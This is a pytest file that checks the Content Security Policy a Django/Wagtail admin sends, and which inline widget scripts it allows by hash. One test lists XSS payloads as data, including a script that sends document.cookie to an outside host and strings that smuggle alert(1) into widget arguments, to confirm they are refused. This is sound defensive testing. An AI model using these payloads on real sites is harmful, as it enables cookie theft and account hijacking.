"""The Wagtail admin's Content Security Policy (core.middleware, issue #20).

tests/browser/test_admin_csp.py uses the admin in Chromium with it enforced; these check the
header itself, and which inline scripts it lets run.
"""

import re

import pytest
from django.http import HttpResponse, JsonResponse

from core import roles
from core.middleware import CONTENT_SECURITY_POLICY, script_hash, widget_script_hashes
from tests.core.factories import user_in_role

PUBLIC_POLICY = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; "
    "font-src 'self'; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; "
    "base-uri 'self'; object-src 'none'"
)
INLINE_SCRIPT = re.compile(rb"<script>(.*?)</script>", re.DOTALL)


def directives(header):
    return {name: values for name, *values in (part.split() for part in header.split("; "))}


@pytest.fixture
def admin_client(client, demo_site):
    client.force_login(user_in_role(roles.ADMINISTRATORS, is_staff=True, is_superuser=True))
    return client


def test_the_admin_is_sent_its_policy_enforced(admin_client):
    response = admin_client.get("/admin/")
    policy = directives(response["Content-Security-Policy"])
    assert "Content-Security-Policy-Report-Only" not in response
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"]
    assert policy["form-action"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert response["X-Frame-Options"] == "DENY"


def test_the_admin_runs_no_inline_or_evaluated_script_but_by_hash(admin_client):
    header = admin_client.get("/admin/")["Content-Security-Policy"]
    policy = directives(header)
    assert "'unsafe-eval'" not in header
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-inline'" not in policy["script-src-attr"]
    allowed = ("'self'", "'sha256-", "'report-sample'")
    assert all(source.startswith(allowed) for source in policy["script-src"])
    assert policy["style-src"] == ["'self'", "'report-sample'"]  # so no style attributes


def test_the_sign_in_page_under_admin_has_the_policy_too(client, db):
    response = client.get("/admin/login/")
    assert "script-src 'self'" in response["Content-Security-Policy"]
    assert "style-src-elem" in response["Content-Security-Policy"]


def test_public_pages_keep_their_own_policy(client, demo_site):
    assert CONTENT_SECURITY_POLICY == PUBLIC_POLICY
    assert client.get("/privacy/")["Content-Security-Policy"] == PUBLIC_POLICY


@pytest.mark.parametrize(
    "path",
    [
        "/admin/pages/{information}/edit/",
        "/admin/coproduction/meeting/new/",
        "/admin/snippets/surveys/touchpoint/add/",
        "/admin/users/",
        "/admin/workflows/add/",
    ],
)
def test_every_inline_script_wagtail_writes_on_a_screen_is_allowed(admin_client, path):
    from cms.models import InformationPage

    information = InformationPage.objects.filter(locale__language_code="en").first()
    response = admin_client.get(path.format(information=information.pk))
    assert response.status_code == 200
    scripts = INLINE_SCRIPT.findall(response.content)
    allowed = directives(response["Content-Security-Policy"])["script-src"]
    assert scripts, "this screen was chosen because it has widgets that start inline"
    assert [s[:60] for s in scripts if f"'{script_hash(s)}'" not in allowed] == []


def test_wagtail_localize_scripts_are_allowed_by_their_fixed_hashes(admin_client):
    from wagtail.models import Locale

    from cms.models import InformationPage

    untranslated = next(
        page
        for page in InformationPage.objects.filter(locale__language_code="en")
        if not page.get_translations().exists()
    )
    submit = f"/admin/localize/submit/page/{untranslated.pk}/"
    polish = Locale.objects.get(language_code="pl")
    form = admin_client.get(submit)
    editor = admin_client.post(submit, {"locales": [polish.pk]}, follow=True)
    assert b"select_all" in form.content and b"window.chooserUrls" in editor.content
    for response in [form, editor]:
        scripts = INLINE_SCRIPT.findall(response.content) + re.findall(
            rb'<script type="text/javascript">(.*?)</script>', response.content, re.DOTALL
        )
        allowed = directives(response["Content-Security-Policy"])["script-src"]
        assert [s[:60] for s in scripts if f"'{script_hash(s)}'" not in allowed] == []


def test_a_preview_may_be_framed_by_the_editor_and_only_it(admin_client):
    from cms.models import InformationPage

    page = InformationPage.objects.filter(locale__language_code="en").first()
    response = admin_client.get(f"/admin/pages/{page.pk}/edit/preview/")
    assert response.status_code == 200
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    # The admin's policy, not the public one the page is rendered with.
    assert directives(response["Content-Security-Policy"])["frame-ancestors"] == ["'self'"]
    assert "style-src-elem" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    "script",
    [
        b"alert(document.cookie)",
        b'new PageChooser("id_page", {}); fetch("https://example.org/?" + document.cookie);',
        b'new PageChooser("id_page", {"modalUrl": alert(1)});',
        b'new Function("id_page", {});',
        b'initDateChooser("id_date", {}), alert(1);',
        b'(function() { var panel = new InlinePanel(JSON.parse("{}" + alert(1))); })();',
    ],
)
def test_a_script_that_is_not_just_a_widget_starting_gets_no_hash(script):
    response = HttpResponse(b"<p>Comment: <script>" + script + b"</script></p>")
    assert widget_script_hashes(response) == []


def test_a_widget_starting_gets_its_hash_and_only_in_html():
    script = b'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/"});'
    html = HttpResponse(b"<div><script>" + script + b"</script></div>")
    assert widget_script_hashes(html) == [script_hash(script)]
    assert widget_script_hashes(JsonResponse({"html": f"<script>{script.decode()}</script>"})) == []


def test_report_only_mode_reports_on_the_admin_and_blocks_nothing(admin_client, settings):
    settings.ADMIN_CSP_REPORT_ONLY = True
    admin = admin_client.get("/admin/")
    assert "Content-Security-Policy" not in admin
    assert "script-src 'self'" in admin["Content-Security-Policy-Report-Only"]
    assert admin_client.get("/privacy/")["Content-Security-Policy"] == PUBLIC_POLICY


def test_the_admin_asks_gravatar_for_nobody(admin_client):
    assert b"gravatar.com" not in admin_client.get("/admin/users/").content
